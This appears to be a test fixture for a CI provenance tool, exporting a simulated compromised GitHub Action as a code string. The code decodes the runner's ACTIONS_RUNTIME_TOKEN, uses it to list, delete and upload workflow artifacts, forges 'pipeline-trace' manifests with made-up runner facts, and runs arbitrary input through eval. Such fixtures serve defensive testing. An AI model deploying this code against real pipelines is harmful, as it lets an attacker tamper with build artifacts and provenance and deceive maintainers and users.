/**
 * A JavaScript action as any compromised dependency could be: it has the runtime token that the runner gives to every
 * action, and with it the run's artifacts. Input `do` is a script that may use what stands here.
 */
export const ATTACKER = `
const { createHash } = require('node:crypto')
const { appendFileSync, readFileSync } = require('node:fs')
const { deflateRawSync, crc32 } = require('node:zlib')
const e = process.env
const claims = JSON.parse(Buffer.from(e.ACTIONS_RUNTIME_TOKEN.split('.')[1], 'base64url'))
const [, runB, jobB] = /Actions\\.Results:([^:\\s]+):([^:\\s]+)/.exec(claims.scp)
const twirp = async (method, body) => {
  const answer = await fetch(new URL('/twirp/github.actions.results.api.v1.ArtifactService/' + method, e.ACTIONS_RESULTS_URL), {
    method: 'POST',
    headers: { authorization: 'Bearer ' + e.ACTIONS_RUNTIME_TOKEN, 'content-type': 'application/json' },
    body: JSON.stringify({ workflow_run_backend_id: runB, workflow_job_run_backend_id: jobB, ...body }),
  })
  const text = await answer.text()
  if (!answer.ok) throw new Error(method + ' ' + answer.status + ' ' + text)
  return JSON.parse(text)
}
const list = async () => (await twirp('ListArtifacts', {})).artifacts
const remove = one => twirp('DeleteArtifact', { name: one.name, workflow_job_run_backend_id: one.workflow_job_run_backend_id })
const sha = content => createHash('sha256').update(content).digest('hex')
const upload = async (name, bytes) => {
  const { signed_upload_url } = await twirp('CreateArtifact', { name, version: 4, mime_type: 'application/zip' })
  const headers = { 'x-ms-blob-type': 'BlockBlob', 'x-ms-blob-content-type': 'application/zip', 'content-type': 'application/zip' }
  const put = await fetch(signed_upload_url, { method: 'PUT', headers, body: bytes })
  if (!put.ok) throw new Error('PUT ' + put.status)
  return twirp('FinalizeArtifact', { name, size: String(bytes.length), hash: 'sha256:' + sha(bytes) })
}
const zip = files => {
  const parts = [], central = []
  let at = 0
  for (const [name, content] of Object.entries(files)) {
    const n = Buffer.from(name), c = Buffer.from(content), d = deflateRawSync(c), sum = crc32(c)
    const h = Buffer.alloc(30)
    h.writeUInt32LE(0x04034b50, 0); h.writeUInt16LE(20, 4); h.writeUInt16LE(0x800, 6); h.writeUInt16LE(8, 8)
    h.writeUInt32LE(sum, 14); h.writeUInt32LE(d.length, 18); h.writeUInt32LE(c.length, 22); h.writeUInt16LE(n.length, 26)
    const z = Buffer.alloc(46)
    z.writeUInt32LE(0x02014b50, 0); z.writeUInt16LE(20, 4); z.writeUInt16LE(20, 6); z.writeUInt16LE(0x800, 8); z.writeUInt16LE(8, 10)
    z.writeUInt32LE(sum, 16); z.writeUInt32LE(d.length, 20); z.writeUInt32LE(c.length, 24); z.writeUInt16LE(n.length, 28); z.writeUInt32LE(at, 42)
    parts.push(h, n, d); central.push(z, n); at += 30 + n.length + d.length
  }
  const cd = Buffer.concat(central), end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0); end.writeUInt16LE(Object.keys(files).length, 8); end.writeUInt16LE(Object.keys(files).length, 10)
  end.writeUInt32LE(cd.length, 12); end.writeUInt32LE(at, 16)
  return Buffer.concat([...parts, cd, end])
}
const fact = value => ({ value, source: 'runner' })
const forge = ({ key, id, backend, attempt = Number(e.GITHUB_RUN_ATTEMPT), more = {} }) => {
  const m = JSON.parse(readFileSync('template.json', 'utf8'))
  m.run = { ...m.run, serverUrl: fact(e.GITHUB_SERVER_URL), repository: fact(e.GITHUB_REPOSITORY), repositoryId: fact(e.GITHUB_REPOSITORY_ID),
    runId: fact(e.GITHUB_RUN_ID), attempt: fact(attempt), sha: fact(e.GITHUB_SHA) }
  m.job = { key: fact(key), name: fact(key), status: fact('success'), ...(id ? { id: fact(id) } : {}), ...(backend ? { backendId: fact(backend) } : {}) }
  m.runner = { labels: fact(['ubuntu-latest']) }
  m.image = {}
  m.recorder.postAt = new Date().toISOString()
  m.gaps = [{ field: 'actions', reason: 'not-readable' }]
  Object.assign(m, more)
  return JSON.stringify(m)
}
const nameOf = (job, attempt = e.GITHUB_RUN_ATTEMPT) => 'pipeline-trace-job-' + e.GITHUB_RUN_ID + '-' + attempt + '-' + job
const lineOf = (text, job) => 'pipeline-trace manifest sha256:' + sha(text) + ' job=' + job + ' attempt=' + e.GITHUB_RUN_ATTEMPT
const output = (name, value) => appendFileSync(e.GITHUB_OUTPUT, name + '<<EOT\\n' + value + '\\nEOT\\n')
;(async () => { await eval('(async()=>{' + e.INPUT_DO + '})()') })().catch(error => { console.log('ATTACK FAILED', error); process.exitCode = 1 })
`

export const ATTACKER_ACTION =
  'name: attacker\ninputs: { do: { required: true } }\nruns: { using: node24, main: index.js }\n'
